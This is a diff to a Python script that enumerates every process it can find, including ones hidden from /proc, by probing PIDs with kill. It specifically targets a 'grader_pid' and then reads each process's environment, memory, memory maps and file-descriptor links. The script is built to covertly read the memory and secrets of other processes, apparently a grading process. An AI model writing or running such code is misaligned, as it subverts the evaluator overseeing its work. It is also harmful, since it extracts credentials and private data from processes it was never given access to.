@@ -8,7 +8,16 @@ import os
 
 OPEN_FILES = ("environ", "mem", "maps", "smaps", "pagemap", "auxv", "syscall", "stack", "io", "map_files")
 LINKS = ("root", "cwd", "exe", "fd/0", "fd/3", "fd/5")
-mine = {os.getpid(), *map(int, os.listdir("/proc/self/task"))}
+
+
+def numbers(folder):
+    try:
+        return {int(name) for name in os.listdir(folder) if name.isdigit()}
+    except OSError:
+        return set()
+
+
+mine = {os.getpid()} | numbers("/proc/self/task")
 
 
 def look_into(process):
@@ -42,7 +51,6 @@ def look_into(process):
 
 
 def every_process():
-    listed = {int(name) for name in os.listdir("/proc") if name.isdigit()}
     guessed = {TARGETS["grader_pid"], TARGETS["grader_pid"] + 1, os.getppid(), *range(1, 400)}
     for process in range(1, 40_000):  # hidden from a listing is not hidden from kill
         try:
@@ -52,7 +60,7 @@ def every_process():
             guessed.add(process)
         except ProcessLookupError:
             pass
-    return (listed | guessed) - mine
+    return (numbers("/proc") | guessed) - mine
 
 
 for process in every_process():
